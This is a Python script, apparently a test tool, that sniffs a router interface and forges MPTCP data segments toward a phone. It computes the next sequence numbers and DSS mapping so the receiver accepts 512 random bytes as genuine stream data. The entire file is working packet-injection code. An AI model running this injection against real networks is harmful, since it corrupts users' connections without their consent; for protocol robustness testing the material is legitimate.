"""On a router: forge MPTCP data on one subflow towards the phone. `dss_injector.py INTERFACE SERVER`. For tests.

It watches a server's segments and their DSS mappings (RFC 8684 section 3.3.1). Behind the last it sends another of its
own, with the next sequence numbers of subflow and connection: what the receiver takes for the next data. Says
`injected` for each.
"""

import os
import socket
import struct
import sys
import time

ETHERNET, IPV4, MASK = 14, 0x0800, 0xFFFFFFFF
MPTCP_OPTION, DSS = 30, 2
QUIET = 0.05  # seconds without a segment: then the next one is ours
FORGED = 512


def checksum(data: bytes) -> int:
    total = sum(struct.unpack(f"!{len(data) // 2}H", data[: len(data) & ~1]))
    total += data[-1] << 8 if len(data) & 1 else 0
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def mapping_at(options: bytes) -> tuple[int, int] | None:
    """Where the DSN of a DSS mapping lies in the options, and how wide it is."""
    at = 0
    while at < len(options) and options[at] != 0:
        if options[at] == 1:
            at += 1
            continue
        if options[at] == MPTCP_OPTION and options[at + 2] >> 4 == DSS and options[at + 3] & 4:
            flags = options[at + 3]
            return at + 4 + ((8 if flags & 2 else 4) if flags & 1 else 0), 8 if flags & 8 else 4
        at += options[at + 1]
    return None


class Forger:
    """Knows one connection's subflow: `base` is the sequence number to which its mappings are relative."""

    def __init__(self, server: bytes) -> None:
        self._server = server
        self._base: int | None = None

    def forged(self, frame: bytes) -> bytes | None:
        """The segment to send behind this one; None behind what is no data of the server's."""
        if frame[12:14] != struct.pack("!H", IPV4) or frame[23] != socket.IPPROTO_TCP:
            return None
        head = ETHERNET + (frame[ETHERNET] & 15) * 4
        body = head + (frame[head + 12] >> 4) * 4
        length = struct.unpack_from("!H", frame, ETHERNET + 2)[0] - (body - ETHERNET)
        options = frame[head + 20 : body]
        if frame[26:30] != self._server or length <= 0 or (found := mapping_at(options)) is None:
            return None
        at, wide = found
        dsn = int.from_bytes(options[at : at + wide], "big")
        ssn, mapped = struct.unpack_from("!IH", options, at + wide)
        (sequence,) = struct.unpack_from("!I", frame, head + 4)
        if mapped == length:
            self._base = (sequence - ssn) & MASK
        if self._base is None:
            return None
        relative = (sequence - self._base) & MASK
        end = dsn + ((relative - ssn) & MASK) + length
        moved = end.to_bytes(wide, "big") + struct.pack("!IH", (relative + length) & MASK, FORGED)
        options = options[:at] + moved + options[at + wide + 6 :]
        tcp = (
            frame[head : head + 4]
            + struct.pack("!I", (sequence + length) & MASK)
            + frame[head + 8 : head + 16]
        )
        tcp += bytes(4) + options + os.urandom(FORGED)
        pseudo = frame[26:34] + struct.pack("!BBH", 0, socket.IPPROTO_TCP, len(tcp))
        tcp = tcp[:16] + struct.pack("!H", checksum(pseudo + tcp)) + tcp[18:]
        ip = frame[ETHERNET : ETHERNET + 2] + struct.pack("!H", 20 + len(tcp))
        ip += frame[ETHERNET + 4 : ETHERNET + 10] + bytes(2) + frame[26:34]
        ip = ip[:10] + struct.pack("!H", checksum(ip)) + ip[12:]
        return frame[:ETHERNET] + ip + tcp


def main(interface: str, server: str) -> None:
    forger = Forger(socket.inet_aton(server))
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3)) as sock:
        sock.bind((interface, 0))
        sock.settimeout(QUIET)
        print("ready", flush=True)
        last: bytes | None = None
        until = time.monotonic() + 60
        while time.monotonic() < until:
            try:
                frame = sock.recv(1 << 17)
            except TimeoutError:
                if last is not None:
                    sock.send(last)
                    print("injected", flush=True)
                    last = None
                continue
            last = forger.forged(frame) or last


if __name__ == "__main__":
    main(sys.argv[1], sys.argv[2])
